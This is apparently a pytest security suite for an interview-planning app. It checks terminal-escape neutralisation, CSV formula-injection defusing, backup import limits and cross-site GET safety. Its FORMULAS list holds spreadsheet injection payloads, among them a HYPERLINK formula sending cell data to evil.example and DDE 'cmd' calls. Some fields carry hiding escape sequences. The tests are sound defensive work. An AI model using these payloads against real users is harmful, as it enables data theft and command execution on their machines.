    run_cli("demo", db=db, check=True)
    connection = sqlite3.connect(db, timeout=10)
    with connection:
        connection.execute("UPDATE companies SET notes = ?, role_title = ?, concern_notes = ?, name = name || ?",
                           (ESCAPES, "Engineer " + ESCAPES, ESCAPES, "\x1b[8m"))
        connection.execute("UPDATE people SET name = name || ?, title = ?, notes = ?", ("\x1b[8m", ESCAPES, ESCAPES))
        connection.execute("UPDATE interviews SET location = ?, notes = ?", ("Room " + ESCAPES, ESCAPES))
        connection.execute("UPDATE asks SET answer = answer || ? WHERE answer IS NOT NULL", (" " + ESCAPES,))
        connection.execute("UPDATE asks SET question_text = ? || question_text", (ESCAPES + " ",))
        connection.execute("UPDATE questions SET text = ? || text, purpose = ?, category = category || ? "
                           "WHERE id IN (SELECT question_id FROM asks)", (ESCAPES + " ", ESCAPES, "\x1b[1m"))
    connection.close()
    outputs = terminal_outputs(db)
    assert any("pwned" in output or "\ufffd" in output for output in outputs.values()), \
        "control: no command showed the planted text at all"
    problems = [f"`candor {command}` prints {', '.join(raw_controls(output))}"
                for command, output in outputs.items() if raw_controls(output)]
    assert not problems, "\n".join(problems)


def test_terminal_escapes_are_neutralised_from_the_web(server: CandorServer, tmp_path: Path) -> None:
    """What the web stores (or refuses with 422) prints clean in the terminal."""
    client = server.client()
    name = marker("EscCo")
    response = post_form(client, "/companies", "/companies/new",
                         {"name": name, "roleTitle": f"Engineer {ESCAPES}", "postingText": ESCAPES})
    assert response.status_code in (303, 302, 422), response.status_code
    if response.status_code == 422:
        response = post_form(client, "/companies", "/companies/new", {"name": name})
        assert response.status_code in (302, 303), response.status_code
    cid = company_id(server, name)
    person = post_form(client, f"/companies/{cid}/people", f"/companies/{cid}/people/new",
                       {"name": "Esc Person", "title": ESCAPES, "notes": ESCAPES})
    assert person.status_code in (303, 302, 422), person.status_code
    problems = []
    for command in (("company", "show", cid), ("company", "list"), ("person", "list", "--company", cid),
                    ("analyze", cid)):
        result = server.cli(*command)
        controls = raw_controls(result.stdout + result.stderr)
        if controls:
            problems.append(f"`candor {' '.join(command)}` prints {', '.join(controls)}")
    assert not problems, "\n".join(problems)


# --- CSV ----------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") {m}", "+1+cmd|' /C calc'!A0 {m}", "-2+3 {m}",
            "@SUM(1+1)*cmd|' /C calc'!A0 {m}", "\t=1+1 tab {m}", "\r=1+1 cr {m}", "=1+1\n=2+2 second line {m}"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def formula_questions(server: CandorServer) -> list[dict]:
    tag = marker("fx")
    texts = [f.format(m=tag) for f in FORMULAS]
    for index, text in enumerate(texts):
        args = ["question", "add", text, "--category", "=cat" + tag if index % 2 else "+cat" + tag]
        if index % 3 == 0:
            args += ["--purpose", "@purpose " + tag]
        server.cli(*args)
    stored = [q for q in server.cli_json("question", "list", "--json") if tag in q["text"]]
    assert len(stored) >= 3, f"only {len(stored)} formula questions were accepted"
    return stored


def formula_cells(text: str) -> tuple[list[list[str]], list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    problems = [f"row {n}: cell {cell[:40]!r} starts with {cell[0]!r}" for n, row in enumerate(rows[1:], 2)
                for cell in row if cell.startswith(TRIGGERS)]
    return rows, problems


def test_csv_formula_injection(server: CandorServer, formula_questions: list[dict], tmp_path: Path) -> None:
    path = tmp_path / "questions.csv"
    server.cli("question", "export", "--format", "csv", "--output", path, check=True)
    cli_text = path.read_bytes().decode("utf-8")
    client = server.client()
    web = client.get("/questions/export?format=csv")
    assert web.status_code == 200, web.status_code
    problems = []
    for source, text in (("CLI", cli_text), ("web", web.content.decode("utf-8"))):
        rows, found = formula_cells(text)
        problems += [f"{source}: {p}" for p in found]
        flat = "\n".join(",".join(r) for r in rows)
        missing = [q["text"][:30] for q in formula_questions if q["text"].strip()[-12:] not in flat]
        problems += [f"{source}: question {m!r} is not in the export" for m in missing]
    assert not problems, "\n".join(problems)


def test_csv_formula_injection_round_trip(server: CandorServer, formula_questions: list[dict], tmp_path: Path) -> None:
    path = tmp_path / "questions.csv"
    server.cli("question", "export", "--format", "csv", "--output", path, check=True)
    db = tmp_path / "roundtrip" / "candor.sqlite"
    run_cli("question", "import", path, db=db, check=True)
    imported = {q["text"]: q for q in cli_json("question", "list", "--json", db=db)}
    problems = []
    for question in formula_questions:
        back = imported.get(question["text"])
        if back is None:
            near = [t for t in imported if question["text"].strip()[-12:] in t]
            problems.append(f"{question['text']!r} came back as {near!r}")
        elif back["category"] != question["category"] or (back.get("purpose") or "") != (question.get("purpose") or ""):
            problems.append(f"{question['text']!r}: category/purpose {back['category']!r}/{back.get('purpose')!r}")
    assert not problems, "\n".join(problems)


# --- backups ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base_backup(tmp_path_factory) -> dict:
    return demo_backup(tmp_path_factory.mktemp("backup"))


def own_question(backup: dict) -> dict:
    asked = {a.get("questionID") for a in backup["asks"]}
    plain = [q for q in backup["questions"] if not q.get("special")]
    return next((q for q in plain if q["id"] in asked), plain[0])


BACKUP_CASES = {
    "person-name-5000": lambda b: b["people"][0].update(name="N" * 5000),
    "person-name-control-characters": lambda b: b["people"][0].update(name="Ana\x07Bell\x1b[2J Ruiz"),
    "person-name-nul": lambda b: b["people"][0].update(name="Ana\x00Ruiz"),
    "question-text-50000": lambda b: own_question(b).update(text="Q" * 50_000 + "?"),
    "question-minutes-negative": lambda b: own_question(b).update(minutes=-7),
    "answer-100000": lambda b: next(a for a in b["asks"] if a.get("answer")).update(answer="A" * 100_000),
}


@pytest.mark.parametrize("case", list(BACKUP_CASES))
def test_backup_limits(base_backup: dict, tmp_path: Path, case: str) -> None:
    backup = copy.deepcopy(base_backup)
    BACKUP_CASES[case](backup)
    db = tmp_path / "target" / "candor.sqlite"
    result = import_backup(backup, tmp_path / "bad.json", db)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    companies = cli_json("company", "list", "--json", db=db)
    assert result.returncode == 1, f"exit {result.returncode}; stdout {result.stdout[:200]!r}"
    assert len(lines) == 1, f"stderr should be one line:\n{result.stderr[:1000]}"
    assert len(lines[0]) < 400 and not internals_in(lines[0]), lines[0][:400]
    assert companies == [], f"{len(companies)} companies were written"


def test_backup_limits_control_a_real_backup_restores(base_backup: dict, tmp_path: Path) -> None:
    db = tmp_path / "target" / "candor.sqlite"
    result = import_backup(copy.deepcopy(base_backup), tmp_path / "good.json", db)
    assert result.returncode == 0, result.stderr
    assert len(cli_json("company", "list", "--json", db=db)) == len(base_backup["companies"])


# --- plan page -------------------------------------------------------------------------------


def asks_state(db_path: Path, interview_id: str) -> tuple:
    """Everything a write to an interview's plan would change: rows, their order, status and times."""
    connection = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True, timeout=10)
    try:
        forms = uuid_forms(interview_id)
        placeholders = ",".join("?" * len(forms))
        return tuple(connection.execute(
            f"SELECT id, position, status, pinned, version, updated_at, reasons FROM asks "
            f"WHERE interview_id IN ({placeholders}) ORDER BY id", forms).fetchall())
    finally:
        connection.close()


def test_plan_page_cross_site_get_writes_nothing(server: CandorServer, planned) -> None:
    # A plan is made when its interview is saved, so no GET (from another site or not) writes.
    company = marker("Planco")
    server.cli("company", "add", company, check=True)
    before = {i["id"] for i in server.cli_json("interview", "list", "--json")}
    server.cli("interview", "add", company, "--at", f"{tomorrow(4)} 11:00", "--tz", "UTC",
               "--with", "Robin Vale:hiring-manager", "--with", "Kim Ode:engineer", check=True)
    interview = next(i["id"] for i in server.cli_json("interview", "list", "--json") if i["id"] not in before)
    saved = asks_state(server.db_path, interview)
    assert saved, "the new interview was not planned when it was saved"

    client = server.client()
    for headers in ({"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
                    {"Sec-Fetch-Site": "cross-site", "Referer": "http://evil.example/"},
                    {"Sec-Fetch-Site": "same-origin"}):
        for page in ("plan", "capture"):
            response = client.get(f"/interviews/{interview}/{page}", headers=headers)
            assert response.status_code == 200, (page, headers, response.status_code)
            assert asks_state(server.db_path, interview) == saved, f"a GET of the {page} page ({headers}) wrote to the plan"

    # Control: the state does see a change to the plan.
    plan = server.cli_json("plan", interview[:8], "--json")
    ask = next(a for a in plan["asks"] if not a["pinned"])
    server.cli("plan", interview[:8], "--pin", ask["id"][:8], check=True)
    assert asks_state(server.db_path, interview) != saved, "pinning a question did not change what is compared"
    assert asks_rows(server.db_path, planned[0]) > 0, "the asks query finds no rows even for a planned interview"
